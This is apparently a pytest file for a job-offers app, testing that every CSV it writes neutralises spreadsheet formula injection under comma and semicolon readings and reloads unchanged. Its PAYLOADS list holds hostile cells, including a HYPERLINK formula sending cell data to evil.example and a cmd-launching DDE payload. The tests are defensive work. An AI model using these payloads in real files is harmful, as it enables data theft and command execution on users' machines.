"""Every CSV file the app writes (issue 10, items 7 and 8).

- Read as a spreadsheet reads it, splitting lines on ',' (Excel in English) and on ';' (Excel in French), with a
  quote honoured only at the start of a field, no field of any of them is a formula. Python's csv reader with a
  given delimiter is that reading (a quote inside a field is kept as text).
- Read by the app's loader, each file gives back exactly the offers written.
- The add-offer page's completed file is the data file in the contract's own format, whatever the format the
  data file was saved in (tab, ';', Windows-1252, UTF-16), and the identifiers already taken are those of the
  parsed file.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from lib.export import offers_csv_text, safe_csv_bytes
from lib.extract import row_csv
from lib.formulas import FORMULA_TRIGGERS, neutralise_formula, restore_formula
from lib.offer_form import append_row, check_row, data_file_facts, taken_ids
from lib.schema import COLUMN_NAMES
from lib.validation import load_offers
from tests.conftest import downloaded, offers_csv_bytes, open_page

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "data" / "offers.csv"

# Cells built to become formulas under one reading or the other.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/x?"&A2;"Postuler ici")',
    "x;=1+1",
    "x,=1+1",
    'Titre ; "=1+1"',
    "a;\t+cmd|' /C calc'!A0",
    "notes\n- point\n@SUM(1)",
    "  ＝1+1",
    "'=déjà une apostrophe",
    "x;'=1+1",
    "fin de ligne\r\n=2+2",
    "-2+3",
    "@x",
]
TEXT_COLUMNS = ("title", "organisation", "address", "notes", "source", "city")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def is_formula(field: str) -> bool:
    """Whether a spreadsheet would run the field: it starts with a trigger, even after spaces."""
    if _PLAIN_NUMBER.fullmatch(field.strip()):
        return False
    return field.startswith(tuple(FORMULA_TRIGGERS)) or field.lstrip().startswith(tuple(FORMULA_TRIGGERS))


def formulas_in(data: bytes) -> dict[str, list[str]]:
    """The fields that run as formulas, by reading (',' then ';', and a tab-separated paste)."""
    text = data.decode("utf-8-sig") if not data.startswith(b"\xff\xfe") else data.decode("utf-16")
    found = {}
    for sep in (",", ";", "\t"):
        fields = [f for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for f in row]
        found[sep] = [f for f in fields if is_formula(f)]
    return found


def assert_safe(data: bytes) -> None:
    found = formulas_in(data)
    assert found == {",": [], ";": [], "\t": []}, found


@pytest.fixture(scope="module")
def bundled() -> pd.DataFrame:
    return load_offers(DATA).offers


@pytest.fixture(scope="module")
def hostile(bundled) -> pd.DataFrame:
    """The bundled offers, each text column of the first rows holding one of the payloads."""
    offers = bundled.copy()
    for i, payload in enumerate(PAYLOADS):
        for column in TEXT_COLUMNS:
            offers.loc[offers.index[i], column] = payload
    return offers


def same_texts(loaded: pd.DataFrame, written: pd.DataFrame) -> None:
    for column in TEXT_COLUMNS:
        expected = [None if pd.isna(v) else str(v).strip() for v in written[column]]
        assert [None if pd.isna(v) else v for v in loaded[column]] == expected, column


# --- the rule itself -----------------------------------------------------------------------------------

@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_neutralised_under_both_separators_and_restored(payload):
    written = neutralise_formula(payload)
    assert restore_formula(written) == payload
    for sep in (",", ";"):
        line = sep.join(['x', '"' + written.replace('"', '""') + '"', "y"]) + "\r\n"
        assert_safe(line.encode())


def test_neutralising_is_one_to_one_on_every_small_text():
    """Every text of up to four characters drawn from the characters that matter: written then read back, it is
    the same text, and written it holds no formula under any reading."""
    alphabet = [",", ";", "\t", "\n", "'", '"', " ", "=", "-", "+", "@", "a", "1", "＝", "\u00a0"]
    texts = [""]
    for _ in range(4):
        texts = [t + c for t in texts for c in alphabet if len(t) < 4] + texts
    for text in set(texts):
        written = neutralise_formula(text)
        assert restore_formula(written) == text, repr(text)
        field = '"' + written.replace('"', '""') + '"'
        assert_safe(("a," + field + ",b\r\n").encode())


# --- every file the app writes ---------------------------------------------------------------------------

def test_data_page_download_comma(hostile):
    data = safe_csv_bytes(hostile)
    assert_safe(data)
    same_texts(load_offers(data).offers, hostile)


def test_data_page_download_for_french_excel(hostile):
    data = safe_csv_bytes(hostile, sep=";", decimal=",")
    assert_safe(data)
    same_texts(load_offers(data).offers, hostile)


def test_data_file_written_by_geocode_loads_as_the_same_offers(hostile):
    """The data file is data, not a download: it is neutralised all the same, and the loader takes the
    apostrophes away, so `python -m lib geocode` never changes an offer's text."""
    data = offers_csv_text(hostile).encode("utf-8")
    assert_safe(data)
    loaded = load_offers(data).offers
    same_texts(loaded, hostile)
    again = offers_csv_text(loaded)
    assert offers_csv_text(load_offers(again.encode("utf-8")).offers) == again  # geocode run twice: the same file


def test_add_offer_row_and_completed_file(hostile, bundled):
    row = hostile.iloc[0].to_dict()
    row["offer_id"] = "nouvelle-offre-2024"
    line = row_csv(row, header=True).encode("utf-8")
    assert_safe(line)
    check = check_row(row, taken_ids(DATA.read_bytes()))
    assert_safe(check.row_csv.encode("utf-8"))
    assert_safe(safe_csv_bytes(pd.DataFrame([row])))  # the add-offer page's « download the offers to add »
    completed = append_row(offers_csv_text(hostile).encode("utf-8"), row).encode("utf-8")
    assert_safe(completed)
    loaded = load_offers(completed).offers
    assert list(loaded["offer_id"]) == [*hostile["offer_id"], "nouvelle-offre-2024"]
    same_texts(loaded.iloc[:-1], hostile)


def test_data_page_download_through_the_page(media_managers):
    """The Data page's button, with an uploaded file holding the payloads."""
    rows = [{"offer_id": f"hostile-{i}", "title": p, "notes": p, "organisation": p} for i, p in enumerate(PAYLOADS)]
    at = open_page("data.py", session_state={"uploaded_file": {"name": "x.csv", "data": offers_csv_bytes(rows)}})
    assert not at.exception
    data = downloaded(at, media_managers, "download")
    assert_safe(data)
    titles = set(load_offers(data).offers["title"])
    assert {restore_formula(p).strip() for p in PAYLOADS} <= titles  # a typed "'=" is the neutralised "="


def test_the_tables_offer_no_unneutralised_download_of_their_own():
    """A table's toolbar writes its own CSV in the browser, cells as they are: it is switched off, the Data page's
    button gives the offers instead."""
    config = (ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8")
    assert re.search(r"^disableDataExport = true$", config, re.MULTILINE)


# --- the add-offer page's completed file, whatever the data file's format -------------------------------

FORMATS = {
    "tab": ({"sep": "\t"}, "utf-8"),
    "french_excel": ({"sep": ";", "decimal": ","}, "cp1252"),
    "utf16_tab": ({"sep": "\t"}, "utf-16"),
    "bom_semicolon": ({"sep": ";", "bom": True}, "utf-8"),
}


def saved_as(bundled: pd.DataFrame, options: dict, encoding: str) -> bytes:
    return offers_csv_text(bundled, **options).encode(encoding)


@pytest.mark.parametrize("name", FORMATS)
def test_completed_file_is_the_contract_format_whatever_the_data_file(bundled, name):
    options, encoding = FORMATS[name]
    existing = saved_as(bundled, options, encoding)
    assert taken_ids(existing) == set(bundled["offer_id"])
    assert data_file_facts(existing).problem is None
    row = bundled.iloc[0].to_dict()
    assert not check_row(row, taken_ids(existing)).ok  # its id is taken
    row["offer_id"] = "nouvelle-offre-2024"
    assert check_row(row, taken_ids(existing)).ok
    completed = append_row(existing, row)
    assert completed.splitlines()[0] == ",".join(COLUMN_NAMES)  # UTF-8 text, comma, the contract's header
    assert completed == offers_csv_text(pd.concat([bundled, pd.DataFrame([row]).astype(bundled.dtypes)],
                                                  ignore_index=True))
    loaded = load_offers(completed.encode("utf-8"))
    assert loaded.report.ok
    assert list(loaded.offers["offer_id"]) == [*bundled["offer_id"], "nouvelle-offre-2024"]


def test_a_data_file_with_unreadable_rows_is_not_rewritten(bundled):
    text = offers_csv_text(bundled.head(3))
    lines = text.splitlines()
    lines.insert(2, "une,ligne,cassée")
    existing = ("\n".join(lines) + "\n").encode("utf-8")
    facts = data_file_facts(existing)
    assert facts.problem is not None and "1 ligne(s) illisible(s) (ligne 3)" in facts.problem
    assert facts.ids == set(bundled.head(3)["offer_id"])


# --- the collection: its export, and its merge into a data file of any format ---------------------------

@pytest.mark.parametrize("name", FORMATS)
def test_merging_an_export_into_a_data_file_of_any_format(bundled, hostile, name):
    from lib.collection.merge import export_csv, merged_text, plan_merge

    options, encoding = FORMATS[name]
    target = saved_as(bundled, options, encoding)
    row = hostile.iloc[1].to_dict()
    row["offer_id"] = "depuis-la-collection-2024"
    export = export_csv([row])
    assert_safe(export)
    plan = plan_merge(export, target)
    assert plan.valid and plan.added == ["depuis-la-collection-2024"], plan.describe()
    merged = merged_text(plan, target).encode("utf-8")
    assert_safe(merged)
    assert merged.decode("utf-8").splitlines()[0] == ",".join(COLUMN_NAMES)
    loaded = load_offers(merged).offers
    assert list(loaded["offer_id"]) == [*bundled["offer_id"], "depuis-la-collection-2024"]
    same_texts(loaded.iloc[:-1], bundled)
    assert loaded.iloc[-1]["title"] == str(row["title"]).strip()
